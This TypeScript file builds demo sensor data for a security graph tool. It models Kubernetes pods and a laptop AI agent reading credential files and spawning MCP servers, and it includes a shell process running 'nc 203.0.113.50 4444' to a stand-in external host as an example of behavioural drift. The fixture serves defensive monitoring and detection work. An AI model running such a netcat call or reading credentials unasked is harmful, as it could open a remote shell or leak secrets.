/**
 * Demo estate, runtime part: what the eBPF sensor observed on two nodes of the Kubernetes part's
 * cluster demo-eks and on one laptop. The support agent's pod reads its IRSA and service account
 * tokens and resolves and calls Bedrock; the research digest job's pod loads local GGUF weights and
 * runs git against GitHub; an agent on a laptop (a process tree rooted at "claude") reads
 * ~/.aws/credentials. Pod ids join the Kubernetes part's K8sPod nodes. Records are what
 * `reachgraph sensor record` writes.
 */
import type { Graph } from '../../graph/driver.js';
import { runSync } from '../../graph/ingest.js';
import { node, rel, type NodeRecord, type PropValue, type RelRecord } from '../../graph/records.js';
import type { DemoPart } from '../estate.js';

const T = (m: number) => new Date(Date.parse('2026-11-20T09:00:00Z') + m * 60_000).toISOString();
const W = (id: string) => ({ label: 'Workload', id });

export function runtimeDemoBatch(): { nodes: NodeRecord[]; rels: RelRecord[] } {
  const nodes: NodeRecord[] = [];
  const rels: RelRecord[] = [];
  const observe = (type: string, from: string, label: string, to: string, count: number, key: string, props: Record<string, PropValue>, toProps: Record<string, PropValue>) => {
    nodes.push(node(label, to, toProps));
    rels.push(rel(type, W(from), { label, id: to }, { count, firstSeen: T(0), lastSeen: T(55), key, props }));
  };

  const node1 = 'ip-10-0-1-23.eu-west-1.compute.internal';
  const node2 = 'ip-10-0-2-41.eu-west-1.compute.internal';
  const laptop = 'ada-laptop';
  const supportPod = 'demo-eks/agents/support-agent-6d8f7-q2x9z';
  const researchPod = 'demo-eks/research/research-digest-29001440-7kq2m';
  const support = `${node1}/pod/${supportPod}`;
  const research = `${node2}/pod/${researchPod}`;
  const claude = `${laptop}/agent/claude`;
  nodes.push(node('Host', node1, { name: node1 }), node('Host', node2, { name: node2 }), node('Host', laptop, { name: laptop }));
  for (const [id, host, kind, name, pod] of [
    [support, node1, 'pod', supportPod, supportPod],
    [research, node2, 'pod', researchPod, researchPod],
    [claude, laptop, 'agent', 'claude', undefined],
  ] as const) {
    nodes.push(node('Workload', id, { host, kind, name }));
    rels.push(rel('ON_HOST', W(id), { label: 'Host', id: host }));
    if (pod) rels.push(rel('PART_OF', W(id), { label: 'K8sPod', id: pod }));
  }

  const py = '/usr/local/bin/python3.12';
  nodes.push(node('Executable', py, { name: 'python3.12' }), node('Executable', '/usr/bin/git', { name: 'git' }), node('Executable', '/usr/bin/node', { name: 'node' }));
  rels.push(rel('DID_EXEC', W(support), { label: 'Executable', id: py }, { count: 1, firstSeen: T(0), lastSeen: T(0) }));
  rels.push(rel('DID_EXEC', W(research), { label: 'Executable', id: py }, { count: 1, firstSeen: T(0), lastSeen: T(0) }));
  rels.push(rel('DID_EXEC', W(research), { label: 'Executable', id: '/usr/bin/git' }, { count: 14, firstSeen: T(3), lastSeen: T(51) }));
  rels.push(rel('DID_EXEC', W(claude), { label: 'Executable', id: '/usr/bin/node' }, { count: 1, firstSeen: T(0), lastSeen: T(0) }));

  const bedrock = 'bedrock-runtime.eu-west-1.amazonaws.com';
  observe('DID_RESOLVE', support, 'DNSName', bedrock, 212, `${py}|A`, { qtype: 'A', answers: ['52.119.190.11', '52.119.188.204'], executable: py }, { name: bedrock });
  observe('DID_CONNECT', support, 'NetEndpoint', '52.119.190.11:443', 212, `${py}|443/TCP`, { port: 443, protocol: 'TCP', executable: py, localAddress: '10.0.1.57' }, { address: '52.119.190.11', port: 443, family: 4, loopback: false });
  observe('DID_RESOLVE', support, 'DNSName', 'qdrant.data.svc.cluster.local', 96, `${py}|A`, { qtype: 'A', answers: ['172.20.41.9'], executable: py }, { name: 'qdrant.data.svc.cluster.local' });
  // The Kubernetes part ties 172.20.41.9:6333 to Service data/qdrant (ADDRESS_OF): qdrant's policy admits research only.
  observe('DID_CONNECT', support, 'NetEndpoint', '172.20.41.9:6333', 96, `${py}|6333/TCP`, { port: 6333, protocol: 'TCP', executable: py, localAddress: '10.0.1.57' }, { address: '172.20.41.9', port: 6333, family: 4, loopback: false });
  observe('DID_OPEN', support, 'File', '/var/run/secrets/eks.amazonaws.com/serviceaccount/token', 4, py, { class: 'credential', executable: py }, { class: 'credential', relative: false });
  observe('DID_OPEN', support, 'File', '/var/run/secrets/kubernetes.io/serviceaccount/token', 2, py, { class: 'credential', executable: py }, { class: 'credential', relative: false });
  observe('DID_OPEN', support, 'File', '/usr/local/lib/python3.12/site-packages/langchain_core/__init__.py', 1, py, { class: 'agent-package', executable: py }, { class: 'agent-package', relative: false });
  observe('DID_OPEN', research, 'File', '/models/llama-3.1-8b-instruct.Q4_K_M.gguf', 1, py, { class: 'model', executable: py }, { class: 'model', relative: false });
  observe('DID_RESOLVE', research, 'DNSName', 'api.github.com', 31, '/usr/bin/git|A', { qtype: 'A', answers: ['140.82.112.6'], executable: '/usr/bin/git' }, { name: 'api.github.com' });
  observe('DID_CONNECT', research, 'NetEndpoint', '140.82.112.6:443', 31, '/usr/bin/git|443/TCP', { port: 443, protocol: 'TCP', executable: '/usr/bin/git', localAddress: '10.0.2.88' }, { address: '140.82.112.6', port: 443, family: 4, loopback: false });
  observe('DID_OPEN', claude, 'File', '/Users/ada/.aws/credentials', 1, '/usr/bin/node', { class: 'credential', executable: '/usr/bin/node' }, { class: 'credential', relative: false });
  observe('DID_RESOLVE', claude, 'DNSName', 'api.anthropic.com', 58, '/usr/bin/node|A', { qtype: 'A', answers: ['160.79.104.10'], executable: '/usr/bin/node' }, { name: 'api.anthropic.com' });
  // The research job spawns its MCP servers as child processes: the declared github server, and a Slack
  // server no config declares (the AI-BOM part's `aibom diff` shows one confirmed, one undeclared).
  const researchPid = (n: number, argv: string[]) => {
    const id = `${node2}/${n}/88${n}`;
    nodes.push(node('Process', id, { pid: n, ppid: 1, comm: 'node', executable: '/usr/bin/node', argv, execAt: T(2) }));
    rels.push(rel('PART_OF', { label: 'Process', id }, W(research)), rel('DID_EXEC', { label: 'Process', id }, { label: 'Executable', id: '/usr/bin/node' }, { count: 1, firstSeen: T(2), lastSeen: T(2) }));
  };
  researchPid(41, ['node', '/app/mcp/demo-mcp-server.mjs', 'github']);
  researchPid(42, ['npx', '-y', '@modelcontextprotocol/server-slack']);

  // Baselines and drift (docs/behavior.md): the laptop agent's baseline is its first 30 minutes. At T(35) it
  // spawns a shell that calls an unknown external address (unexplained drift); at T(40) its MCP config gains a
  // server (a recorded StateChange) and at T(45) it resolves that server's name (drift the change explains).
  nodes.push(node('Executable', '/bin/sh', { name: 'sh' }), node('NetEndpoint', '203.0.113.50:4444', { address: '203.0.113.50', port: 4444, family: 4, loopback: false }), node('DNSName', 'mcp.sentry.dev', { name: 'mcp.sentry.dev' }));
  const seen = (from: number, to: number, count: number) => ({ count, firstSeen: T(from), lastSeen: T(to) });
  rels.push(rel('DID_EXEC', W(claude), { label: 'Executable', id: '/bin/sh' }, { ...seen(35, 35, 1), key: '/usr/bin/node', props: { parentExecutable: '/usr/bin/node' } }));
  rels.push(rel('DID_CONNECT', W(claude), { label: 'NetEndpoint', id: '203.0.113.50:4444' }, { ...seen(35, 36, 3), key: '/bin/sh|4444/TCP', props: { port: 4444, protocol: 'TCP', executable: '/bin/sh', localAddress: '192.168.1.20' } }));
  rels.push(rel('DID_RESOLVE', W(claude), { label: 'DNSName', id: 'mcp.sentry.dev' }, { ...seen(45, 50, 4), key: '/usr/bin/node|A', props: { qtype: 'A', answers: ['34.120.62.213'], executable: '/usr/bin/node' } }));
  const claudeChange = `${claude}/config/mcp-servers-2`;
  nodes.push(node('StateChange', claudeChange, { kind: 'config', at: T(40), before: 'mcpServers: github', after: 'mcpServers: github, sentry' }));
  rels.push(rel('CHANGED', { label: 'StateChange', id: claudeChange }, W(claude)));
  const shId = `${laptop}/4711/90210`;
  nodes.push(node('Process', shId, { pid: 4711, ppid: 4242, comm: 'sh', executable: '/bin/sh', argv: ['sh', '-c', 'nc 203.0.113.50 4444'], execAt: T(35) }));
  nodes.push(node('Process', `${laptop}/4242/100`, { pid: 4242, ppid: 1, comm: 'node', executable: '/usr/bin/node', argv: ['node', '/usr/local/bin/claude'], execAt: T(0) }));
  rels.push(rel('PART_OF', { label: 'Process', id: shId }, W(claude)), rel('CHILD_OF', { label: 'Process', id: shId }, { label: 'Process', id: `${laptop}/4242/100` }));
  rels.push(rel('PART_OF', { label: 'Process', id: `${laptop}/4242/100` }, W(claude)));

  for (const [host, workloads] of [
    [node1, [support]],
    [node2, [research]],
    [laptop, [claude]],
  ] as const) {
    const id = `${host}/demo/w0`;
    nodes.push(node('Coverage', id, { host, probes: ['exec', 'net', 'dns', 'files'], from: T(0), to: T(60), lost: false, ringLost: 0, mapFull: 0, queueOverflow: 0, workloads: [...workloads] }));
    rels.push(rel('ON_HOST', { label: 'Coverage', id }, { label: 'Host', id: host }));
    for (const w of workloads) rels.push(rel('COVERS', { label: 'Coverage', id }, W(w)));
  }
  return { nodes, rels };
}

/** The laptop agent's baseline (first 30 minutes, locked) and its drift, as `reachgraph baseline` and `reachgraph drift` write them. */
async function baselineAndDrift(graph: Graph): Promise<void> {
  const store = await import('../../behavior/store.js');
  const claude = 'ada-laptop/agent/claude';
  if (!(await store.getBaseline(graph, claude))) await store.learn(graph, claude, { from: Date.parse(T(0)), windowMs: 30 * 60_000, now: Date.parse(T(30)) });
  if ((await store.getBaseline(graph, claude))?.state !== 'locked') await store.lock(graph, claude, Date.parse(T(30)));
  await store.detect(graph, { subject: claude, now: Date.parse(T(60)) });
}

export const part: DemoPart = {
  name: 'runtime',
  load: async (graph: Graph) => {
    const summary = await runSync(graph, { source: 'demo-sensor', scope: 'demo', syncId: 'demo-sensor-1', progress: false }, (sink) => sink.write(runtimeDemoBatch()));
    await baselineAndDrift(graph);
    return summary;
  },
};
